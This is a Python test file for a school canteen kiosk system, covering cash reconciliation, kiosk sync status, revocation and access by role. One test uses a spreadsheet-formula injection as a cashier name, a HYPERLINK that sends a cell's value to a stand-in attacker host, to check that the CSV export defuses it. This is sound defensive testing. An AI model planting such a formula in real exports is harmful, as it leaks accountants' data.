"""Cash reconciliation and the kiosks' health, with real kiosks syncing with the server on loopback:
the drawer's count against the cash the kiosk took (page, CSV, CLI), what an offline kiosk holds
back and the error a failed sync left, revocation from the page, and who may see what; on SQLite
and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from domain.clock import service_date
from kiosk import sync_store
from kiosk.service import KioskService
from kiosk.store import Store
from kiosk.sync_agent import SyncAgent, SyncError
from sync_server.admin import cashiers, managers
from sync_server.money import refund_fence, refunds
from sync_server.tables import audit_log, cash_counts

from .conftest import MONDAY_NOON
from .live_server import free_port, new_kiosk
from .portal_client import start_school, text_of

pytestmark = pytest.mark.on_each_database

DAY = "2026-11-30"  # MONDAY_NOON's day in Zurich
CANTEEN = {"name": "Réfectoire", "phone": "079 000 00 00", "email": "cantine@example.ch"}


@pytest.fixture
def school(school_database, tmp_path, monkeypatch):
    """The test school's server, which `refectory server ...` also reaches (same database)."""
    school = start_school(school_database, tmp_path)
    monkeypatch.setenv("DATABASE_URL", school_database.url)
    monkeypatch.setenv("REFECTORY_SERVER_INSTANCE", str(tmp_path / "instance"))
    yield school
    school.live.stop()


def synced_kiosk(tmp_path, school, kiosk_id: str = "K1"):
    kiosk = new_kiosk(tmp_path, school.live, kiosk_id)
    SyncAgent(kiosk.store, clock=school.clock).run_round()
    return kiosk


def test_a_count_short_of_the_takings_shows_its_difference_on_the_page_in_the_csv_and_the_cli(
        school, tmp_path, run):
    kiosk = synced_kiosk(tmp_path, school)
    anne = kiosk.login("anne", "1234")
    kiosk.cash_topup(anne, "P001", 30_00)
    mistake = kiosk.cash_topup(anne, "P002", 20_00)
    kiosk.reverse(anne, mistake.entry.id, "montant erroné")
    kiosk.count_cash(service_date(kiosk.clock()), "25", counted_by="anne")
    recount = kiosk.count_cash(service_date(kiosk.clock()), "24.50", counted_by="anne")  # the latest count stands
    assert (recount.net_cents, recount.difference_cents) == (30_00, -5_50)
    SyncAgent(kiosk.store, clock=school.clock).run_round()
    assert kiosk.store.pending_push() == 0

    page = text_of(school.manager().get(f"/manage/cash?day={DAY}"))
    assert "Écart : CHF -5.50 (manquant)." in page
    assert "Anne Roch (anne) 2 · CHF 50.00 1 · CHF 20.00 CHF 30.00" in page
    assert "Espèces comptées" in page and "CHF 24.50" in page

    exported = school.manager().get(f"/manage/cash.csv?day={DAY}")
    assert exported.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [(r["cashier_id"], r["topups_chf"], r["cancellations_chf"], r["expected_chf"], r["counted_chf"],
             r["difference_chf"]) for r in rows] == [("anne", "50.00", "20.00", "30.00", "", ""),
                                                      ("", "50.00", "20.00", "30.00", "24.50", "-5.50")]

    done = run("server", "cash", "--day", DAY, "--json")
    assert done.exit_code == 0, done.stderr
    [k1] = json.loads(done.stdout)["kiosks"]
    assert (k1["kiosk_id"], k1["expected_cents"], k1["counted_cents"], k1["difference_cents"], k1["flagged"],
            k1["counted_by"]) == ("K1", 30_00, 24_50, -5_50, True, "anne")
    assert (k1["cashiers"][0]["topup_count"], k1["cashiers"][0]["cancellation_count"]) == (2, 1)
    assert "Compté CHF 24.50 à 12:00, écart CHF -5.50 (signalé)" in run("server", "cash", "--day", DAY).stdout


def test_a_cashier_name_written_as_a_formula_reaches_the_accountants_spreadsheet_as_text(school, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&E2,"Eve")'
    with school.live.write() as conn:
        cashiers.add_cashier(conn, "eve", formula, "2468", school.clock())
    kiosk = synced_kiosk(tmp_path, school)
    kiosk.cash_topup(kiosk.login("eve", "2468"), "P001", 10_00)
    SyncAgent(kiosk.store, clock=school.clock).run_round()
    exported = school.manager().get(f"/manage/cash.csv?day={DAY}")
    [eve, _kiosk_row] = csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff")))
    assert eve["cashier_id"] == "eve" and eve["cashier"] == "'" + formula and eve["topups_chf"] == "10.00"
    assert "=HYPERLINK(" in text_of(school.manager().get(f"/manage/cash?day={DAY}"))  # the page shows it as it is


@pytest.mark.parametrize("far", ["9999-12-31", "0001-01-01"])
def test_a_day_too_far_for_the_cash_report_is_refused_in_words(school, run, far):
    page = school.manager().get(f"/manage/cash?day={far}")  # the page shows today, with the reason
    assert page.status_code == 200 and "trop loin dans le passé ou l'avenir" in text_of(page)
    assert school.manager().get(f"/manage/cash.csv?day={far}").status_code == 200
    for command in (["cash", "--day", far], ["kitchen", "--day", far]):
        refused = run("server", *command)
        assert refused.exit_code == 1 and "trop loin dans le passé ou l'avenir" in refused.stderr


def test_a_day_without_top_ups_counted_from_the_kiosk_command_line_reaches_the_server(school, tmp_path, run):
    kiosk = synced_kiosk(tmp_path, school)
    counted = run("kiosk", "report", "--data", str(tmp_path / "K1"), "--date", "2026-11-29", "--counted", "12.50",
                  "--at", "2026-11-30T08:00", "--json")
    assert counted.exit_code == 0, counted.stderr
    report = json.loads(counted.stdout)
    assert (report["net_cash_cents"], report["counted_cents"], report["difference_cents"]) == (0, 12_50, 12_50)
    assert report["counted_by"] is None
    SyncAgent(kiosk.store, clock=school.clock).run_round()
    [k1] = json.loads(run("server", "cash", "--day", "2026-11-29", "--json").stdout)["kiosks"]
    assert (k1["cashiers"], k1["expected_cents"], k1["counted_cents"], k1["difference_cents"]) == ([], 0, 12_50,
                                                                                                   12_50)
    assert "Écart : CHF 12.50 (en trop)." in text_of(school.manager().get("/manage/cash?day=2026-11-29"))
    nothing = json.loads(run("server", "cash", "--day", "2026-11-28", "--json").stdout)
    assert nothing["kiosks"] == []


def test_a_count_that_is_not_an_amount_is_refused_with_its_reason_and_nothing_is_written(kiosk_dir, run):
    for typed, says in (("-5", "Le montant doit être positif"), ("douze", "n'est pas un montant"),
                        ("100000.05", "Le montant maximum est de CHF 100'000.00"), ("12.33", "multiple de 0.05"),
                        ("10", "Le 2026-12-01 n'est pas encore arrivé")):
        refused = run("kiosk", "report", "--data", str(kiosk_dir), "--counted", typed, "--at", "2026-11-30T16:00",
                      *(["--date", "2026-12-01"] if typed == "10" else []))
        assert refused.exit_code == 1 and says in refused.stderr.replace("\u2019", "'"), refused.stderr
    with Store.open(kiosk_dir) as store:
        assert store.conn.execute("SELECT COUNT(*) FROM cash_counts").fetchone()[0] == 0
        assert store.pending_push() == 0


def test_the_kiosks_page_shows_an_offline_kiosk_holding_back_a_refund_and_revoking_it_stops_its_sync(
        school, tmp_path, run):
    online, offline = synced_kiosk(tmp_path, school, "K1"), synced_kiosk(tmp_path, school, "K2")
    online.cash_topup(online.login("anne", "1234"), "P001", 20_00)
    SyncAgent(online.store, clock=school.clock).run_round()
    with school.live.write() as conn:
        asked = refunds.ask(conn, "F01", "P001", "CH93 0076 2011 6238 5295 7", "Anna Müller", school.clock(),
                            canteen=CANTEEN, portal_url="https://portal.test/")
        refunds.approve(conn, asked.request_id, "sandra", school.clock(), canteen=CANTEEN,
                        portal_url="https://portal.test/")
    school.clock.now = MONDAY_NOON + timedelta(hours=2, minutes=5)
    SyncAgent(online.store, clock=school.clock).run_round()  # K1 passes the fence; K2 stays away

    manager = school.manager()
    page = text_of(manager.get("/manage/kiosks"))
    k2 = page[page.index("K2 —"):]
    assert "K2 — hors ligne depuis 2 h 5 min" in page and "K1 — en ligne" in page
    assert f"Retient 1 remboursement approuvé : demande n° {asked.request_id} — Léa Müller (P001)" in k2
    listed = json.loads(run("server", "kiosks", "--json").stdout)["kiosks"]
    assert [(k["kiosk_id"], k["pending"], k["holding_back_refunds"]) for k in listed] == [  # the CLI's clock is real
        ("K1", 0, []), ("K2", 0, [{"request_id": asked.request_id, "pupil_id": "P001"}])]

    confirm = text_of(manager.get("/manage/kiosks/K2/revoke"))
    assert "Révoquer la borne K2 ?" in confirm
    done = manager.submit("/manage/kiosks/K2/revoke", {}, form_page="/manage/kiosks/K2/revoke")
    assert done.status_code == 302
    after = text_of(manager.get("/manage/kiosks"))
    assert "Borne K2 révoquée" in after and "Remboursements comptabilisés" in after
    with school.live.write() as conn:
        assert refunds.find(conn, asked.request_id).status is refunds.Status.TO_PAY
        assert refund_fence.active_kiosks(conn)[0].kiosk_id == "K1"
        assert conn.execute(select(audit_log.c.actor).where(audit_log.c.action == "kiosk.revoke")).scalar() == "sandra"
    with pytest.raises(SyncError, match="401"):
        SyncAgent(offline.store, clock=school.clock).run_round()


def test_the_kiosks_page_shows_the_error_of_a_failed_sync_and_a_code_made_there_enrolls_a_kiosk(
        school, tmp_path):
    kiosk = synced_kiosk(tmp_path, school)
    state = sync_store.sync_state(kiosk.store)
    point_at(kiosk, f"http://127.0.0.1:{free_port()}")  # nobody listens there
    with pytest.raises(SyncError):
        SyncAgent(kiosk.store, clock=school.clock).run_round()
    school.clock.now = MONDAY_NOON + timedelta(minutes=1)
    point_at(kiosk, state.server_url)  # the network is back
    SyncAgent(kiosk.store, clock=school.clock).run_round()

    manager = school.manager()
    page = text_of(manager.get("/manage/kiosks"))
    assert "Dernière erreur de synchronisation La borne n'a pas pu joindre le serveur (réseau, ou serveur arrêté)." \
           " (30.11.2026 12:00; synchronisée à nouveau depuis)" in page

    made = manager.submit("/manage/kiosks/code", {"kiosk_id": "K3"}, form_page="/manage/kiosks")
    code = text_of(made).split("Code d'enrôlement pour la borne K3 : ")[1].split()[0]
    new = new_kiosk_with_code(tmp_path, school, "K3", code)
    assert "K3 — jamais synchronisée" in text_of(manager.get("/manage/kiosks"))
    SyncAgent(new.store, clock=school.clock).run_round()
    refused = manager.submit("/manage/kiosks/code", {"kiosk_id": "K 3!"}, form_page="/manage/kiosks")
    assert refused.status_code == 422 and "Un identifiant de borne" in text_of(refused)


def point_at(kiosk, url: str) -> None:
    with kiosk.store.transaction() as store:
        store.conn.execute("UPDATE sync_state SET server_url = ?", (url,))


def new_kiosk_with_code(tmp_path, school, kiosk_id: str, code: str):
    store = Store.open(tmp_path / kiosk_id, create=True)
    store.initialize(kiosk_id)
    SyncAgent(store).enroll(school.live.url, code)
    return KioskService(store, clock=school.clock)


def test_an_accountant_reads_the_cash_page_and_its_csv_but_cannot_see_or_revoke_kiosks(school, tmp_path):
    synced_kiosk(tmp_path, school)
    accountant, kitchen = school.staff(managers.ACCOUNTANT), school.staff(managers.KITCHEN)
    assert accountant.get(f"/manage/cash?day={DAY}").status_code == 200
    assert accountant.get(f"/manage/cash.csv?day={DAY}").status_code == 200
    assert accountant.get("/manage/kiosks").status_code == 403
    token = accountant.token("/manage/cash")
    assert accountant.post("/manage/kiosks/K1/revoke", {"csrf_token": token}).status_code == 403
    assert accountant.post("/manage/kiosks/code", {"csrf_token": token, "kiosk_id": "K9"}).status_code == 403
    for path in ("/manage/cash", "/manage/cash.csv", "/manage/kiosks"):
        assert kitchen.get(path).status_code == 403
    with school.live.write() as conn:
        assert refund_fence.active_kiosks(conn)[0].kiosk_id == "K1"
        assert conn.execute(select(func.count()).select_from(cash_counts)).scalar() == 0
